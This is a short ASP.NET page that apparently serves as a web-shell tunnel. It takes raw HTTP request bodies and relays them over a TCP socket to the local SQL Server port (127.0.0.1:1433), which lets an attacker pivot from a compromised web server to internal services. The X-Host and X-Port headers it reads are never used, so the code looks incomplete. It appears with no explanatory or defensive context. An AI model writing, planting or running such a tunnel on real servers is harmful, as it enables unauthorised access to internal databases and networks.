<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%
	string host = Request.Headers["X-Host"];
	int port = int.Parse(Request.Headers["X-Port"]);
	TcpClient client = new TcpClient("127.0.0.1", 1433);
	NetworkStream ns = client.GetStream();
	byte[] body = Request.BinaryRead(Request.TotalBytes);
	ns.Write(body, 0, body.Length);
%>
